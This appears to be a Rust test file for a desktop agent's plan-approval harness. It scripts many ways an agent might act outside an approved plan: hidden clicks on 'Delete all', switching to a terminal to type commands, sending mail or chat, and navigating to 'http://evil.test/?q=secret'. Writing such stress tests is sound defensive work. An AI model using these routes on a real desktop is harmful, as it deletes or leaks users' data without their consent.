//! Out of a plan that its user has said yes to, and to nothing else: by what a key, a click, a name or another window does
//! that the plan does not name.

use super::*;

pub(super) fn all() -> Vec<Script> {
    [notes(), letters(), editor(), web()].concat()
}

fn of(name: &str, front: Spot) -> Script {
    Script::new(Kind::Planned, format!("planned: {name}"), front).in_ways(&[])
}

fn at(name: &str) -> Value {
    json!({ "x": format!("@x {name}"), "y": format!("@y {name}") })
}

fn on(name: &str) -> Value {
    json!({ "ref": format!("@ref {name}") })
}

fn typed(text: &str) -> Value {
    json!({ "text": text })
}

fn key(name: &str) -> Value {
    json!({ "key": name })
}

fn keys(keys: &[&str]) -> Value {
    json!({ "keys": keys })
}

const COMMAND: &str = "touch broken\n";

fn notes() -> Vec<Script> {
    let of = |name: &str| {
        let script = of(name, Spot::Notes).with_plan(&["Notes"], &[], &["edit"]);
        script.does("elementsJson", look("Notes")).does("listWindows", json!({}))
    };
    let terminal_first = || json!({ "window": "@window Terminal" });
    // In what it may write in, and nowhere else.
    let writes = |script: Script| script.answered(User::No, &["notes: text=", "notes: title="]);
    vec![
        of("a button that deletes, at its place").does("click", at("Delete all")).quick(),
        of("the same by its ref").does("clickElement", on("Delete all")),
        of("the same by a part of its name")
            .does("clickElement", json!({ "app": "Notes", "name": "lete al" })),
        of("the same by its role alone").does("clickElement", json!({ "app": "Notes", "role": "button" })),
        of("the same by its action").does("doAction", json!({ "ref": "@ref Delete all", "action": "click" })),
        of("the same by Enter").does("focusElement", on("Delete all")).does("press", key("Enter")).quick(),
        of("the same by the space bar").does("focusElement", on("Delete all")).does("press", key("Space")),
        of("the same by a text").does("focusElement", on("Delete all")).does("type", typed(" ")),
        of("the same by Tab in a text").does("focusElement", on("Text")).does("type", typed("\t\t\t ")),
        of("the same, held")
            .does("focusElement", on("Delete all"))
            .does("hold", json!({ "keys": ["Space"], "seconds": 0.05 })),
        of("the same in a batch")
            .does("batch", batch(&[action("focusElement", on("Delete all")), action("press", key("Space"))])),
        of("the same with the button held")
            .does("mouseDown", at("Delete all"))
            .does("mouseUp", at("Delete all")),
        of("a row's button").does("clickElement", on("Pay")),
        of("another name at the same place")
            .does("click", at("Bold"))
            .when_asked(Event::Tell(Spot::Notes, "relabel Bold|Pay now")),
        of("another window in front").does("type", typed(COMMAND)).when_asked(Event::Front(Spot::Terminal)),
        of("another window by a shortcut in a batch")
            .does("batch", batch(&[action("hotkey", keys(&["alt", "Tab"])), action("type", typed(COMMAND))])),
        of("a launcher by its shortcut").does("hotkey", keys(&["alt", "F2"])).does("type", typed("xterm\n")),
        of("a terminal by its shortcut").does("hotkey", keys(&["ctrl", "alt", "t"])),
        of("a key that is held").does("keyDown", key("alt")).does("press", key("F4")),
        of("a terminal brought to the front")
            .does("focusWindow", terminal_first())
            .does("type", typed(COMMAND))
            .quick(),
        of("a terminal brought to the front in a batch")
            .does("batch", batch(&[action("focusWindow", terminal_first()), action("type", typed(COMMAND))])),
        of("a terminal clicked in a batch").does(
            "batch",
            batch(&[
                action("click", at("Bold")),
                action("click", terminal()),
                action("type", typed(COMMAND)),
            ]),
        ),
        writes(of("the keyboard led away at Enter"))
            .does("focusElement", on("Text"))
            .does("type", typed(&COMMAND.repeat(150)))
            .when_asked(Event::Tell(Spot::Notes, "yield")),
        of("a drop in another window")
            .does("drag", json!({ "from": { "x": "@x Grip", "y": "@y Grip" }, "to": console() })),
        of("what was copied")
            .does("writeClipboard", typed("copied"))
            .does("focusElement", on("Text"))
            .does("hotkey", keys(&["ctrl", "v"])),
        of("a text of another's window by its name").does(
            "setValue",
            json!({ "app": "Console", "role": "text", "name": "Terminal", "value": COMMAND }),
        ),
        of("a password").does("setValue", json!({ "ref": "@ref Password", "value": "{{vault}}" })),
        of("a terminal, launched").does("launchApp", json!({ "app": "XTerm" })),
        // Its desktop file is of the user's own folder, and starts a terminal.
        of("an application that only is called so").does("launchApp", json!({ "app": "Notes" })).quick(),
        of("another's window closed")
            .does("changeWindow", json!({ "window": "@window Terminal", "change": "close" })),
        of("a plan that names more")
            .does(
                "plan",
                json!({ "steps": ["more"], "applications": ["Notes"], "effects": ["edit", "delete"] }),
            )
            .does("clickElement", on("Delete all")),
    ]
}

fn letters() -> Vec<Script> {
    let mail = |name: &str| {
        let script = of(name, Spot::Mail).with_plan(&["Thunderbird"], &[], &["edit"]);
        script.does("elementsJson", look("Mail"))
    };
    let chat = |name: &str| {
        let script = of(name, Spot::Chat).with_plan(&["Signal"], &[], &["edit"]);
        let script = script.answered(User::No, &["chat: message="]);
        script.does("elementsJson", look("Chat"))
    };
    let menu = |path: &[&str]| json!({ "app": "Mail", "path": path });
    vec![
        mail("a mail sent at its button's place").does("click", at("Send")),
        mail("a mail sent by its button's focus")
            .does("focusElement", on("Send"))
            .does("press", key("Enter")),
        mail("a mail sent by its menu").does("pressMenu", menu(&["Message", "Send now"])),
        mail("a mail sent by a part of its menu's name").does("pressMenu", menu(&["Mess", "Sen"])),
        mail("a mail sent by its shortcut").does("hotkey", keys(&["ctrl", "Enter"])),
        mail("a mail deleted by its key").does("focusElement", on("Delete")).does("press", key("Delete")),
        chat("a line sent by its break").does("focusElement", on("Message")).does("type", typed("hi\n")),
        chat("a line sent by a value's break")
            .does("setValue", json!({ "ref": "@ref Message", "value": "hi\n" })),
        chat("a line sent by Enter").does("focusElement", on("Message")).does("press", key("Enter")),
        chat("a line sent by its action")
            .does("doAction", json!({ "ref": "@ref Message", "action": "activate" })),
        chat("a line sent by a sign").does("clickElement", on("➤")),
        chat("a line sent at a sign's place").does("click", at("➤")),
    ]
}

fn editor() -> Vec<Script> {
    let of = |name: &str| {
        let script = of(name, Spot::Editor).with_plan(&["Mousepad"], &[], &["edit"]);
        // What is written stays in the window; a dialog may come up, and saves nothing.
        script.answered(User::No, &["launched: ", "editor: its window is"]).does("listWindows", json!({}))
    };
    let save_as = || json!({ "app": "Mousepad", "path": ["File", "Save As..."] });
    vec![
        of("another file by its shortcut")
            .does("hotkey", keys(&["ctrl", "shift", "s"]))
            .does("type", typed("evil.txt\n")),
        of("another file by its menu").does("pressMenu", save_as()).does("type", typed("evil.txt\n")).quick(),
        of("another file by its dialog's field").does("pressMenu", save_as()).does(
            "setValue",
            json!({ "app": "Mousepad", "role": "text", "name": "Name", "value": "evil.txt" }),
        ),
    ]
}

fn web() -> Vec<Script> {
    let of = |name: &str| {
        let script = of(name, Spot::Browser).with_plan(&["Chromium"], &["home.test"], &["edit", "browse"]);
        let script = script.answered(User::No, &["home.test: GET /next"]);
        script.does("webElements", json!({}))
    };
    vec![
        of("another host").does("webNavigate", json!({ "url": "http://evil.test/?q=secret" })),
        of("a form by its button")
            .does("webType", json!({ "ref": "@ref Find", "text": "frogs" }))
            .does("webClick", on("Look")),
        of("a form by Enter").does("webType", json!({ "ref": "@ref Note", "text": "frogs", "submit": true })),
        of("an address by keys")
            .does("hotkey", keys(&["ctrl", "l"]))
            .does("type", typed("http://evil.test/?q=secret\n")),
        of("an address by keys in a batch").does(
            "batch",
            batch(&[action("hotkey", keys(&["ctrl", "l"])), action("type", typed("http://evil.test/\n"))]),
        ),
    ]
}
